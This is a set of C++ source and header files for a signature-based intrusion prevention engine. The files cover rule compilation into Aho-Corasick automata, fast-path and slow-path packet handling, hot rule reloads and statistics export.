  // carry the same content under several sids, and the automaton need hold
  // each distinct string once. CSR maps a pattern hit back to every sid.
  {
    match::AhoCorasick::Builder b;
    std::map<Bytes, std::uint32_t> seen;  // signature bytes -> pattern id
    std::vector<std::vector<std::uint32_t>> groups;
    for (const Signature& s : rs->sigs_) {
      const auto [it, fresh] =
          seen.emplace(s.bytes, static_cast<std::uint32_t>(groups.size()));
      if (fresh) {
        b.add(ByteView(s.bytes));
        groups.emplace_back();
      } else {
        ++rs->report_.duplicate_signatures;
      }
      groups[it->second].push_back(s.id);
    }
    rs->full_begin_.reserve(groups.size() + 1);
    rs->full_begin_.push_back(0);
    for (const auto& g : groups) {
      rs->full_sids_.insert(rs->full_sids_.end(), g.begin(), g.end());
      rs->full_begin_.push_back(
          static_cast<std::uint32_t>(rs->full_sids_.size()));
    }
    rs->full_ac_ = b.build(opts.layout);
    rs->report_.full_patterns = rs->full_ac_.pattern_count();
  }

  if (opts.piece_len != 0) {
    rs->pieces_.emplace(
        opts.piece_phase_sample.empty()
            ? PieceSet(rs->sigs_, opts.piece_len, opts.layout)
            : PieceSet(rs->sigs_, opts.piece_len, opts.layout,
                       ByteView(opts.piece_phase_sample)));
    rs->report_.piece_count = rs->pieces_->piece_count();
    rs->report_.piece_patterns = rs->pieces_->pattern_count();
  }

  rs->report_.automaton_bytes = rs->full_ac_.memory_bytes() +
                                (rs->pieces_ ? rs->pieces_->memory_bytes() : 0);
  rs->report_.compile_ns = static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now() - t0)
          .count());
  return rs;
}

}  // namespace sdt::core
