// Engine verdict vocabulary shared by the fast path, slow path and facade.
#pragma once

#include <cstdint>
#include <string>

#include "flow/flow_key.hpp"

namespace sdt::core {

/// What the IPS does with a packet.
enum class Action : std::uint8_t {
  forward,  // fast path cleared it
  divert,   // handed to the slow path (and forwarded unless the slow path alerts)
  alert,    // a signature matched: block/alert
};

const char* to_string(Action a);

/// Why a flow left the fast path.
enum class DivertReason : std::uint8_t {
  none,
  piece_match,    // a signature piece appeared whole inside one packet
  small_segment,  // data segment smaller than the 2p-1 threshold
  out_of_order,   // sequence number not the expected next (gap, overlap, rexmit)
  ip_fragment,    // any IPv4 fragment
  bad_packet,     // unparseable / hostile headers
  urgent_data,    // URG segment: out-of-band consumption is ambiguous
  already_diverted,
};

const char* to_string(DivertReason r);

/// Sentinel signature id for slow-path shed notifications: the admission
/// controller refused a diverted flow under saturation. Shedding is an
/// explicit, alerted verdict — never a silent drop — so the operator sees
/// exactly which flows lost slow-path scrutiny (see docs/OPERATIONS.md).
inline constexpr std::uint32_t kSlowPathShedAlertId = 0xfffffffdu;

/// A detected signature occurrence.
struct Alert {
  flow::FlowKey flow;
  std::uint32_t signature_id = 0;
  std::uint64_t ts_usec = 0;
  /// Stream offset (relative to what the detecting engine observed) of the
  /// match end, when known; 0 for single-datagram matches.
  std::uint64_t stream_offset = 0;
  /// "slow-path", "conventional", "udp", "takeover-suffix".
  const char* source = "";
};

}  // namespace sdt::core
