// CompiledRuleSet — the immutable, versioned rule artifact.
//
// The paper's operating point (inline on a 20 Gbps link, 1M connections)
// forbids restarting the box to pick up a new signature, so the expensive
// step — parse rules, split signatures into pieces, build the Aho-Corasick
// automata — happens entirely off the packet path, producing ONE immutable
// object that the engines merely *reference*:
//
//   rules text ──parse──► SignatureSet ──compile──► CompiledRuleSet
//                                                     ├ signatures (owned)
//                                                     ├ PieceSet   (fast path)
//                                                     ├ full-sig automaton
//                                                     │   (slow path, deduped)
//                                                     └ CompileReport
//
// Ownership is `shared_ptr<const CompiledRuleSet>` (RuleSetHandle): the
// registry publishes a new handle, each lane adopts it at a packet
// boundary, and the old artifact is reclaimed automatically when the last
// holder (a lane, or a flow pinned to the version it started under) drops
// its reference. Nothing in here is mutated after compile_ruleset returns,
// so concurrent readers need no locks.
//
// Full-signature dedup mirrors the PieceSet's: identical signature
// byte-strings share one automaton pattern, and sids_for_pattern() maps a
// match back to EVERY signature id that carries those bytes — alerts are
// raised per sid, so operators see all of their rules fire, while the
// automaton holds each distinct string once.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "core/rules.hpp"
#include "core/signature.hpp"
#include "core/splitter.hpp"
#include "match/aho_corasick.hpp"

namespace sdt::core {

/// Knobs for one compile. Mirrors the per-engine config fields that shape
/// the automata; the artifact records them so a swap can be validated
/// against the running engines' expectations.
struct CompileOptions {
  /// Piece length p for the fast path's PieceSet. 0 = slow-path-only
  /// artifact (no pieces; FastPath refuses such a handle).
  std::size_t piece_len = 0;
  match::AcLayout layout = match::AcLayout::dense_dfa;
  /// Optional benign-payload sample for the rare-piece phase optimization.
  Bytes piece_phase_sample;
  /// Signatures shorter than 2*piece_len cannot be safely split. false:
  /// throw InvalidArgument (the historic constructor behaviour — config
  /// errors at startup should be loud). true: drop them with a skipped
  /// diagnostic (the reload path — a bad rule must not take down the box).
  bool drop_short_signatures = false;
};

/// Everything a reload caller needs to know about one compile: the parse
/// diagnostics, what was kept/dropped/shared, the automata sizes, and how
/// long the offline step took.
struct CompileReport {
  std::vector<RuleDiagnostic> diagnostics;
  std::size_t rules_parsed = 0;     // signatures out of the parser
  std::size_t signatures = 0;       // signatures in the artifact
  std::size_t dropped_short = 0;    // dropped by drop_short_signatures
  std::size_t duplicate_signatures = 0;  // byte-identical to an earlier sig
  std::size_t piece_count = 0;      // (signature, offset) mappings
  std::size_t piece_patterns = 0;   // unique piece automaton patterns
  std::size_t full_patterns = 0;    // unique full-signature patterns
  std::size_t automaton_bytes = 0;  // both automata + mappings
  std::uint64_t compile_ns = 0;
  bool ok = true;

  std::size_t count(RuleSeverity s) const {
    std::size_t n = 0;
    for (const auto& d : diagnostics) n += d.severity == s ? 1 : 0;
    return n;
  }

  /// Render as a JSON object (diagnostics included) — the control plane's
  /// reload response embeds this verbatim.
  std::string to_json() const;
};

/// The immutable artifact. Construct via compile_ruleset(); every accessor
/// is const and data-race-free against concurrent readers.
class CompiledRuleSet {
 public:
  const SignatureSet& signatures() const { return sigs_; }
  std::uint64_t version() const { return version_; }
  const std::string& source() const { return source_; }
  const CompileReport& report() const { return report_; }

  /// Fast-path database. has_pieces() is false for slow-only artifacts
  /// (piece_len 0); pieces() on such an artifact is undefined.
  bool has_pieces() const { return pieces_.has_value(); }
  const PieceSet& pieces() const { return *pieces_; }
  std::size_t piece_len() const { return pieces_ ? pieces_->piece_len() : 0; }

  /// Slow-path full-signature matcher (deduplicated patterns).
  const match::AhoCorasick& full_matcher() const { return full_ac_; }

  /// Every signature id carrying the bytes of full-matcher pattern
  /// `pattern_id` (>= 1 entry; > 1 when rules duplicate content).
  std::span<const std::uint32_t> sids_for_pattern(
      std::uint32_t pattern_id) const {
    return std::span<const std::uint32_t>(full_sids_)
        .subspan(full_begin_[pattern_id],
                 full_begin_[pattern_id + 1] - full_begin_[pattern_id]);
  }

  /// Artifact footprint: automata + mappings + signature copies.
  std::size_t memory_bytes() const;

 private:
  friend std::shared_ptr<const CompiledRuleSet> compile_ruleset(
      SignatureSet, const CompileOptions&, std::uint64_t, std::string,
      std::vector<RuleDiagnostic>);

  CompiledRuleSet() = default;

  std::uint64_t version_ = 0;
  std::string source_;
  SignatureSet sigs_;
  std::optional<PieceSet> pieces_;
  match::AhoCorasick full_ac_;
  /// CSR: full-matcher pattern id -> full_sids_[begin[id], begin[id+1]).
  std::vector<std::uint32_t> full_sids_;
  std::vector<std::uint32_t> full_begin_;
  CompileReport report_;
};

/// Shared-ownership handle — what the registry publishes, lanes adopt, and
/// in-flight flows pin.
using RuleSetHandle = std::shared_ptr<const CompiledRuleSet>;

/// The offline compile. Consumes `sigs` (post-parse); `parse_diags` (from
/// RuleParseResult) are folded into the report so the artifact carries the
/// full story of its own construction. Throws InvalidArgument only for
/// configuration errors the options forbid tolerating (short signature
/// with drop_short_signatures=false, piece_len but no usable signatures
/// left); rule-content problems become diagnostics instead.
RuleSetHandle compile_ruleset(SignatureSet sigs, const CompileOptions& opts,
                              std::uint64_t version = 0,
                              std::string source = "inline",
                              std::vector<RuleDiagnostic> parse_diags = {});

}  // namespace sdt::core
