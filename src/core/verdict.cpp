#include "core/verdict.hpp"

namespace sdt::core {

const char* to_string(Action a) {
  switch (a) {
    case Action::forward:
      return "forward";
    case Action::divert:
      return "divert";
    case Action::alert:
      return "alert";
  }
  return "unknown";
}

const char* to_string(DivertReason r) {
  switch (r) {
    case DivertReason::none:
      return "none";
    case DivertReason::piece_match:
      return "piece_match";
    case DivertReason::small_segment:
      return "small_segment";
    case DivertReason::out_of_order:
      return "out_of_order";
    case DivertReason::ip_fragment:
      return "ip_fragment";
    case DivertReason::bad_packet:
      return "bad_packet";
    case DivertReason::urgent_data:
      return "urgent_data";
    case DivertReason::already_diverted:
      return "already_diverted";
  }
  return "unknown";
}

}  // namespace sdt::core
