// SplitDetectEngine — the public face of the library.
//
// Wires the fast path to the slow path:
//
//           packet ─► FastPath ──forward──────────────────► out
//                        │ divert (piece / anomaly / frag)
//                        ▼
//               engine defragmenter (fragments only)
//                        │ whole datagrams + diverted segments
//                        ▼
//                ConventionalIps (slow path) ──alerts──► caller
//
// Diversion is sticky per flow; adoption passes the fast path's expected
// sequence numbers so the slow path reassembles exactly the bytes the fast
// path did not clear, and the takeover-suffix rule (see
// conventional_ips.hpp) closes the ≤3p-3-byte prefix window.
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "core/conventional_ips.hpp"
#include "core/fast_path.hpp"
#include "core/signature.hpp"
#include "core/verdict.hpp"
#include "pcap/pcap.hpp"
#include "telemetry/registry.hpp"

namespace sdt::core {

/// The ConventionalIps configuration a SplitDetectEngine derives from its
/// own config for the internal slow path. Exported so an external
/// slow-path service can run an *identically configured* IPS — verdict
/// parity between the synchronous engine and the decoupled service is a
/// tested invariant (the fuzz crosscheck), and it starts here.
struct SplitDetectConfig;
ConventionalIpsConfig derive_slow_config(const SplitDetectConfig& cfg);

/// One unit of diverted work crossing the engine → slow-path boundary when
/// an external DivertSink is installed. Fragments are defragmented on the
/// engine's (lane) thread before the boundary, so a DivertedPacket is always
/// a whole, parseable, flow-keyed IPv4 datagram — the sink never sees
/// partial fragments and can route/admit purely on `key`.
struct DivertedPacket {
  Bytes datagram;               ///< owning copy of the whole IPv4 datagram
  std::uint64_t ts_usec = 0;
  flow::FlowKey key;            ///< canonical identity (routing + admission)
  DivertReason reason = DivertReason::none;
  /// Set on a flow's first diversion: the fast path's sequence bases and
  /// leak bounds the adopting ConventionalIps needs (see adopt_flow).
  std::optional<FastDecision::Takeover> takeover;
};

/// Admission verdict the sink returns synchronously. `shed` vs `shed_again`
/// distinguishes the first refusal of a flow (the engine raises one
/// kSlowPathShedAlertId alert) from repeat refusals (counted, not re-alerted).
enum class DivertOutcome : std::uint8_t {
  admitted,    ///< queued for (or handed to) slow-path processing
  shed,        ///< refused at admission; first shed of this flow → alert
  shed_again,  ///< refused; flow already shed earlier (no new alert)
};

/// Boundary between the per-packet engine and a decoupled slow path (see
/// sdt::slowpath::SlowPathService). Installing a sink replaces the engine's
/// internal synchronous ConventionalIps call for diverted traffic; with no
/// sink installed behaviour is exactly the classic synchronous engine.
class DivertSink {
 public:
  virtual ~DivertSink() = default;
  /// Called on the engine's thread; must be cheap (enqueue + admission
  /// bookkeeping, no reassembly). May be called from several lane threads
  /// concurrently — implementations synchronise internally.
  virtual DivertOutcome divert(DivertedPacket&& dp) = 0;
};

struct SplitDetectConfig {
  FastPathConfig fast;
  /// Slow-path sizing: diverted flows only, so a fraction of fast-path size.
  std::size_t slow_max_flows = 1 << 17;
  reassembly::TcpReassemblerConfig slow_reasm;
  reassembly::IpDefragConfig defrag;
  /// Hop distance to the nearest protected host, when known: lets both
  /// paths drop TTL-insertion chaff outright (0 = unknown; the decoys then
  /// surface as normalizer conflicts instead). Applied to fast and slow.
  std::uint8_t min_ttl = 0;
};

struct SplitDetectStats {
  FastPathStats fast;
  ConventionalIpsStats slow;
  std::uint64_t packets = 0;
  std::uint64_t alerts = 0;
  std::uint64_t diverted_packets = 0;  // all packets sent to the slow path
  std::uint64_t reloads = 0;           // swap_ruleset calls accepted
  std::uint64_t ruleset_version = 0;   // version the fast path runs now

  // External-sink mode only (all zero when no DivertSink is installed).
  std::uint64_t sink_enqueued = 0;      // diverted units the sink admitted
  std::uint64_t sink_shed_packets = 0;  // units refused at admission
  std::uint64_t sink_shed_flows = 0;    // first-shed events (= shed alerts)
  std::uint64_t sink_unroutable = 0;    // diverted but no flow identity

  /// Fraction of packets that needed slow-path processing.
  double slow_packet_fraction() const {
    return packets == 0 ? 0.0
                        : static_cast<double>(diverted_packets) /
                              static_cast<double>(packets);
  }
};

/// The Split-Detect IPS: per-packet fast path, diversion, slow-path
/// reassembly for the diverted remainder.
class SplitDetectEngine {
 public:
  /// Compile-on-construct convenience: builds one version-0 artifact from
  /// `sigs` (pieces + full automaton) shared by both paths.
  SplitDetectEngine(const SignatureSet& sigs, SplitDetectConfig cfg = {});
  /// Share an already-compiled artifact (the hot-reload shape). The handle
  /// must carry pieces at cfg.fast.piece_len (see FastPath).
  explicit SplitDetectEngine(RuleSetHandle rules, SplitDetectConfig cfg = {});

  /// Adopt a new rule-set version in both paths. Call only between
  /// process() calls (a packet boundary) from the thread driving the
  /// engine — in the lane runtime that is the lane thread itself, after it
  /// observed a new version in control::RuleSetRegistry. Fast path swaps
  /// wholesale (its scan is stateless per packet); slow path pins in-flight
  /// flows to the version they started under.
  void swap_ruleset(RuleSetHandle rules);
  std::uint64_t ruleset_version() const { return fast_.ruleset_version(); }
  const RuleSetHandle& ruleset() const { return fast_.ruleset(); }

  /// Process one packet; any alerts are appended. Returns the action taken.
  Action process(const net::PacketView& pv, std::uint64_t now_usec,
                 std::vector<Alert>& alerts);

  /// Process a batch in arrival order. Verdicts and alerts are identical
  /// to n process() calls, but the fast path hoists flow-record prefetch,
  /// checksum verification and the piece scan across the batch and walks
  /// the flat DFA over all candidate windows in lockstep
  /// (FastPath::process_batch). Stats match the sequential path exactly
  /// with fast.prefilter_adaptive=false; with the adaptive governor only
  /// the prefilter_* telemetry split may diverge around a mode flip (see
  /// FastPath::process_batch). `actions`, if non-null, receives the n
  /// per-packet actions. Returns how many packets were not forwarded.
  std::size_t process_batch(const net::PacketView* pvs,
                            const std::uint64_t* now_usec, std::size_t n,
                            std::vector<Alert>& alerts,
                            Action* actions = nullptr);

  /// Convenience: parse + process one captured packet.
  Action process(const net::Packet& pkt, net::LinkType lt,
                 std::vector<Alert>& alerts);

  /// Drive housekeeping (flow expiry in both paths).
  void expire(std::uint64_t now_usec);

  /// Install (or clear, with nullptr) an external slow-path sink. With a
  /// sink installed, diverted traffic is defragmented, flow-keyed and handed
  /// to the sink instead of the internal synchronous ConventionalIps; the
  /// sink's admission verdict decides queued vs shed (a first shed raises a
  /// kSlowPathShedAlertId alert inline). Call before traffic, from the
  /// thread that drives process(). The sink must outlive the engine's use.
  void set_divert_sink(DivertSink* sink) { sink_ = sink; }
  bool has_divert_sink() const { return sink_ != nullptr; }

  /// By-value stats snapshot: composed on the way out, mutating nothing, so
  /// a stats poller holding a const reference to a quiescent engine gets a
  /// coherent copy instead of aliasing live counters through a const_cast.
  SplitDetectStats stats_snapshot() const {
    SplitDetectStats s;
    s.fast = fast_.stats();
    s.slow = slow_.stats();
    s.packets = packets_;
    s.alerts = alerts_;
    s.diverted_packets = diverted_packets_;
    s.reloads = reloads_;
    s.ruleset_version = fast_.ruleset_version();
    s.sink_enqueued = sink_enqueued_;
    s.sink_shed_packets = sink_shed_packets_;
    s.sink_shed_flows = sink_shed_flows_;
    s.sink_unroutable = sink_unroutable_;
    return s;
  }
  const FastPath& fast_path() const { return fast_; }
  const ConventionalIps& slow_path() const { return slow_; }

  /// Register this engine's deep stats into `reg` under `<prefix>.…` as
  /// *quiescent-only* gauges (MetricDesc::live = false): the engine's
  /// tallies are thread-private plain integers, so they are sampled only
  /// by snapshot(SampleScope::quiescent) — after the owning thread stopped,
  /// or from the single thread driving the engine. Names and units are the
  /// contract in docs/OBSERVABILITY.md. The engine must outlive the polls.
  void register_metrics(telemetry::MetricsRegistry& reg,
                        const std::string& prefix = "engine") const;

  /// Per-flow state held by both paths together (the E2 metric for
  /// Split-Detect as a whole system).
  std::size_t flow_state_bytes() const {
    return fast_.flow_state_bytes() + slow_.flow_state_bytes();
  }
  std::size_t memory_bytes() const {
    return fast_.memory_bytes() + slow_.memory_bytes();
  }

 private:
  /// Everything after the fast path's verdict: diversion bookkeeping, sink
  /// hand-off or synchronous slow-path processing. Shared by process() and
  /// process_batch() so the two paths cannot drift.
  Action finish(const net::PacketView& pv, FastDecision d,
                std::uint64_t now_usec, std::vector<Alert>& alerts);
  /// Sink-mode diversion: defragment, flow-key, hand to sink_, translate
  /// the admission outcome (shed → alert) into an Action.
  Action divert_to_sink(const net::PacketView& pv, FastDecision d,
                        std::uint64_t now_usec, std::vector<Alert>& alerts);
  Action ship_to_sink(DivertedPacket&& dp, std::uint64_t now_usec,
                      std::vector<Alert>& alerts);

  FastPath fast_;
  ConventionalIps slow_;
  reassembly::IpDefragmenter defrag_;
  DivertSink* sink_ = nullptr;
  std::uint64_t packets_ = 0;
  std::uint64_t alerts_ = 0;
  std::uint64_t diverted_packets_ = 0;
  std::uint64_t reloads_ = 0;
  std::uint64_t sink_enqueued_ = 0;
  std::uint64_t sink_shed_packets_ = 0;
  std::uint64_t sink_shed_flows_ = 0;
  std::uint64_t sink_unroutable_ = 0;
  std::vector<FastDecision> batch_decisions_;  // process_batch scratch
};

/// One-call offline convenience: run a whole pcap file through an engine.
struct PcapRunResult {
  std::uint64_t packets = 0;
  std::vector<Alert> alerts;
};
PcapRunResult run_pcap(SplitDetectEngine& engine, const std::string& path);

}  // namespace sdt::core
