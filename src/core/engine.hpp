// SplitDetectEngine — the public face of the library.
//
// Wires the fast path to the slow path:
//
//           packet ─► FastPath ──forward──────────────────► out
//                        │ divert (piece / anomaly / frag)
//                        ▼
//               engine defragmenter (fragments only)
//                        │ whole datagrams + diverted segments
//                        ▼
//                ConventionalIps (slow path) ──alerts──► caller
//
// Diversion is sticky per flow; adoption passes the fast path's expected
// sequence numbers so the slow path reassembles exactly the bytes the fast
// path did not clear, and the takeover-suffix rule (see
// conventional_ips.hpp) closes the ≤3p-3-byte prefix window.
#pragma once

#include <cstdint>
#include <vector>

#include "core/conventional_ips.hpp"
#include "core/fast_path.hpp"
#include "core/signature.hpp"
#include "core/verdict.hpp"
#include "pcap/pcap.hpp"
#include "telemetry/registry.hpp"

namespace sdt::core {

struct SplitDetectConfig {
  FastPathConfig fast;
  /// Slow-path sizing: diverted flows only, so a fraction of fast-path size.
  std::size_t slow_max_flows = 1 << 17;
  reassembly::TcpReassemblerConfig slow_reasm;
  reassembly::IpDefragConfig defrag;
  /// Hop distance to the nearest protected host, when known: lets both
  /// paths drop TTL-insertion chaff outright (0 = unknown; the decoys then
  /// surface as normalizer conflicts instead). Applied to fast and slow.
  std::uint8_t min_ttl = 0;
};

struct SplitDetectStats {
  FastPathStats fast;
  ConventionalIpsStats slow;
  std::uint64_t packets = 0;
  std::uint64_t alerts = 0;
  std::uint64_t diverted_packets = 0;  // all packets sent to the slow path
  std::uint64_t reloads = 0;           // swap_ruleset calls accepted
  std::uint64_t ruleset_version = 0;   // version the fast path runs now

  /// Fraction of packets that needed slow-path processing.
  double slow_packet_fraction() const {
    return packets == 0 ? 0.0
                        : static_cast<double>(diverted_packets) /
                              static_cast<double>(packets);
  }
};

/// The Split-Detect IPS: per-packet fast path, diversion, slow-path
/// reassembly for the diverted remainder.
class SplitDetectEngine {
 public:
  /// Compile-on-construct convenience: builds one version-0 artifact from
  /// `sigs` (pieces + full automaton) shared by both paths.
  SplitDetectEngine(const SignatureSet& sigs, SplitDetectConfig cfg = {});
  /// Share an already-compiled artifact (the hot-reload shape). The handle
  /// must carry pieces at cfg.fast.piece_len (see FastPath).
  explicit SplitDetectEngine(RuleSetHandle rules, SplitDetectConfig cfg = {});

  /// Adopt a new rule-set version in both paths. Call only between
  /// process() calls (a packet boundary) from the thread driving the
  /// engine — in the lane runtime that is the lane thread itself, after it
  /// observed a new version in control::RuleSetRegistry. Fast path swaps
  /// wholesale (its scan is stateless per packet); slow path pins in-flight
  /// flows to the version they started under.
  void swap_ruleset(RuleSetHandle rules);
  std::uint64_t ruleset_version() const { return fast_.ruleset_version(); }
  const RuleSetHandle& ruleset() const { return fast_.ruleset(); }

  /// Process one packet; any alerts are appended. Returns the action taken.
  Action process(const net::PacketView& pv, std::uint64_t now_usec,
                 std::vector<Alert>& alerts);

  /// Convenience: parse + process one captured packet.
  Action process(const net::Packet& pkt, net::LinkType lt,
                 std::vector<Alert>& alerts);

  /// Drive housekeeping (flow expiry in both paths).
  void expire(std::uint64_t now_usec);

  /// By-value stats snapshot: composed on the way out, mutating nothing, so
  /// a stats poller holding a const reference to a quiescent engine gets a
  /// coherent copy instead of aliasing live counters through a const_cast.
  SplitDetectStats stats_snapshot() const {
    SplitDetectStats s;
    s.fast = fast_.stats();
    s.slow = slow_.stats();
    s.packets = packets_;
    s.alerts = alerts_;
    s.diverted_packets = diverted_packets_;
    s.reloads = reloads_;
    s.ruleset_version = fast_.ruleset_version();
    return s;
  }
  const FastPath& fast_path() const { return fast_; }
  const ConventionalIps& slow_path() const { return slow_; }

  /// Register this engine's deep stats into `reg` under `<prefix>.…` as
  /// *quiescent-only* gauges (MetricDesc::live = false): the engine's
  /// tallies are thread-private plain integers, so they are sampled only
  /// by snapshot(SampleScope::quiescent) — after the owning thread stopped,
  /// or from the single thread driving the engine. Names and units are the
  /// contract in docs/OBSERVABILITY.md. The engine must outlive the polls.
  void register_metrics(telemetry::MetricsRegistry& reg,
                        const std::string& prefix = "engine") const;

  /// Per-flow state held by both paths together (the E2 metric for
  /// Split-Detect as a whole system).
  std::size_t flow_state_bytes() const {
    return fast_.flow_state_bytes() + slow_.flow_state_bytes();
  }
  std::size_t memory_bytes() const {
    return fast_.memory_bytes() + slow_.memory_bytes();
  }

 private:
  FastPath fast_;
  ConventionalIps slow_;
  reassembly::IpDefragmenter defrag_;
  std::uint64_t packets_ = 0;
  std::uint64_t alerts_ = 0;
  std::uint64_t diverted_packets_ = 0;
  std::uint64_t reloads_ = 0;
};

/// One-call offline convenience: run a whole pcap file through an engine.
struct PcapRunResult {
  std::uint64_t packets = 0;
  std::vector<Alert> alerts;
};
PcapRunResult run_pcap(SplitDetectEngine& engine, const std::string& path);

}  // namespace sdt::core
