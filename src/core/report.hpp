// Structured (JSON) export of engine statistics and alerts, for dashboards
// and log pipelines.
#pragma once

#include <string>
#include <vector>

#include "core/engine.hpp"

namespace sdt::core {

/// Full engine snapshot: fast/slow counters, state sizes, derived ratios.
std::string stats_json(const SplitDetectEngine& engine);

/// One alert per array element; signature names resolved via `sigs` when
/// available, sentinels rendered as "normalizer-conflict"/"urgent".
std::string alerts_json(const std::vector<Alert>& alerts,
                        const SignatureSet& sigs);

}  // namespace sdt::core
