// The Split-Detect fast path — the second half of the paper's contribution.
//
// Per packet it does only three cheap things:
//   1. one flow-table lookup into a *16-byte* per-flow record,
//   2. a stateless Aho-Corasick scan of the packet payload for signature
//      pieces (the automaton restarts at the root every packet — no
//      cross-packet matcher state, hence no reassembly),
//   3. constant-time anomaly checks (segment size, expected sequence
//      number, fragment bit).
// Any piece hit or anomaly diverts the flow to the slow path.
//
// The FIN exemption: the final data segment of a direction is legitimately
// small, so a small segment is held as *pending* and only becomes an
// anomaly if more data follows it (a bare FIN absolves it). The detection
// theorem survives this: if the pending small segment completed a signature
// delivery, some earlier or current packet must already have contained a
// whole piece (see the case analysis in tests/core/theorem_test.cpp).
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "core/compiled_ruleset.hpp"
#include "core/splitter.hpp"
#include "core/verdict.hpp"
#include "flow/flow_table.hpp"
#include "net/packet.hpp"

namespace sdt::core {

struct FastPathConfig {
  /// Piece length p. Signatures must all be >= 2p bytes.
  std::size_t piece_len = 8;
  /// Segments with 0 < payload < min_payload are small-segment anomalies.
  /// 0 means "derive 2p-1 from piece_len" (the theorem's threshold).
  std::size_t min_payload = 0;
  /// Number of small-segment anomalies tolerated before diversion. The
  /// provable-detection configuration is 1.
  std::uint8_t small_segment_limit = 1;
  /// Number of sequence anomalies tolerated before diversion. Provable
  /// configuration is 1.
  std::uint8_t ooo_limit = 1;
  /// Forgive a small data segment immediately followed by that direction's
  /// FIN (the common benign end-of-stream shape). Safe per the theorem.
  bool fin_exempts_last_small = true;
  /// Verify TCP/UDP checksums and ignore failures entirely: a segment the
  /// receiver will drop must not influence IPS state (the classic
  /// bad-checksum insertion attack). Costs one pass over the payload.
  bool verify_checksums = true;
  /// When non-zero, ignore segments whose TTL cannot reach the protected
  /// hosts (the TTL insertion attack). Requires knowing the topology —
  /// 0 disables, leaving those decoys to the conflict alert instead.
  std::uint8_t min_ttl = 0;
  std::size_t max_flows = 1 << 20;
  std::uint64_t flow_idle_timeout_usec = 60ull * 1000 * 1000;
  /// Once both directions' FINs (or a sequence-valid RST) are seen, the
  /// 16-byte record lingers only this long instead of the idle timeout —
  /// the conntrack-style teardown that makes 1M-flow churn a steady state.
  /// Diverted flows are exempt: their record keeps routing packets to the
  /// slow path for the full idle timeout.
  std::uint64_t fin_linger_usec = 5ull * 1000 * 1000;
  match::AcLayout layout = match::AcLayout::dense_dfa;
  /// Gate the exact piece scan behind the SIMD 2-byte-prefix prefilter and
  /// run it on the flat DFA (dense layout only; other layouts fall back to
  /// the plain automaton automatically). Verdict-identical either way —
  /// the fuzzer crosschecks it — this is purely a speed knob.
  bool use_prefilter = true;
  /// Let the prefilter disable itself when observed traffic defeats it.
  /// Textual payloads against textual piece prefixes put candidate windows
  /// on most payloads, and then staging costs more than handing whole
  /// payloads to the batched DFA. The governor meters the fraction of
  /// scanned bytes the prefilter fails to clear over a short epoch and,
  /// when it exceeds 1/8, routes the next stretch of payloads straight to
  /// the DFA before probing again. Verdicts are identical in every mode;
  /// only prefilter_* stats depend on the traffic. Ignored unless
  /// use_prefilter is set.
  bool prefilter_adaptive = true;
  /// TEST-ONLY: disable the small-segment anomaly check entirely, breaking
  /// the detection theorem on purpose. Exists so the differential fuzzer
  /// (tools/sdt_fuzz --inject-bug) can prove its oracle and shrinker catch
  /// a real engine defect; never set this in a deployment.
  bool testonly_break_small_segment_check = false;
  /// Optional sample of representative benign payload. When non-empty, the
  /// splitter picks, per signature, the tiling phase whose pieces occur
  /// least often in this sample — cutting chance-piece-hit diversions (the
  /// paper's rare-piece refinement; see optimized_piece_offsets).
  Bytes piece_phase_sample;

  std::size_t effective_min_payload() const {
    return min_payload != 0 ? min_payload : 2 * piece_len - 1;
  }
};

/// The entire per-flow fast-path state. The paper's storage claim rests on
/// this being an order of magnitude smaller than reassembly state.
struct FastFlowState {
  std::uint32_t next_seq[2] = {0, 0};  // expected next seq per direction
  std::uint8_t have_seq = 0;           // bit d: next_seq[d] valid
  std::uint8_t pending_small = 0;      // bit d: unforgiven small segment
  std::uint8_t small_count[2] = {0, 0};
  std::uint8_t ooo_count[2] = {0, 0};
  std::uint8_t diverted = 0;
  std::uint8_t fin_seen = 0;  // bit d: FIN observed in direction d
};
static_assert(sizeof(FastFlowState) == 16,
              "fast-path flow record must stay 16 bytes");

struct FastPathStats {
  std::uint64_t packets = 0;
  std::uint64_t bytes = 0;
  std::uint64_t bytes_scanned = 0;
  std::uint64_t tcp_segments = 0;
  std::uint64_t udp_datagrams = 0;
  std::uint64_t flows_seen = 0;
  std::uint64_t flows_diverted = 0;
  std::uint64_t piece_hits = 0;
  std::uint64_t small_segment_anomalies = 0;
  std::uint64_t ooo_anomalies = 0;
  std::uint64_t fragment_diverts = 0;
  std::uint64_t bad_packets = 0;
  std::uint64_t bad_checksum_ignored = 0;
  std::uint64_t low_ttl_ignored = 0;
  std::uint64_t urgent_diverts = 0;
  std::uint64_t diverted_packets = 0;  // packets of already-diverted flows
  /// Prefilter staging: payloads cleared without touching the automaton,
  /// payloads with >= 1 candidate window, and the bytes the exact DFA was
  /// actually handed (sum of candidate-window sizes).
  std::uint64_t prefilter_pass = 0;
  std::uint64_t prefilter_hit = 0;
  std::uint64_t prefilter_exact_bytes = 0;
  /// Payloads the adaptive governor routed straight to the DFA because the
  /// prefilter was not clearing enough bytes on recent traffic.
  std::uint64_t prefilter_bypassed = 0;
  std::uint64_t batch_packets = 0;  // packets entering via process_batch
};

/// The fast path's decision for one packet.
struct FastDecision {
  Action action = Action::forward;
  DivertReason reason = DivertReason::none;
  /// Set when this packet newly diverts a TCP flow: what the slow path
  /// needs to adopt it (flow key, per-direction expected sequence bases,
  /// and how many signature-prefix bytes may have leaked past the fast
  /// path in each direction — p-1 via a clean edge packet, plus 2p-2 more
  /// only if a small segment was forwarded under the FIN exemption).
  struct Takeover {
    flow::FlowKey key;
    std::optional<std::uint32_t> base_seq[2];
    std::uint16_t prefix_leak[2] = {0, 0};
  };
  std::optional<Takeover> takeover;
};

class FastPath {
 public:
  /// Compile-on-construct convenience: copies `sigs` into a private
  /// version-0 artifact shaped by the config's piece parameters.
  FastPath(const SignatureSet& sigs, FastPathConfig cfg = {});
  /// Share an already-compiled artifact (the hot-reload shape). The handle
  /// must carry a piece database whose piece length matches
  /// cfg.piece_len — the config's anomaly thresholds (2p-1) and the
  /// artifact's tiling must agree or the detection theorem breaks. Throws
  /// InvalidArgument otherwise.
  explicit FastPath(RuleSetHandle rules, FastPathConfig cfg = {});

  /// Adopt a new rule-set version. Safe at any packet boundary: the
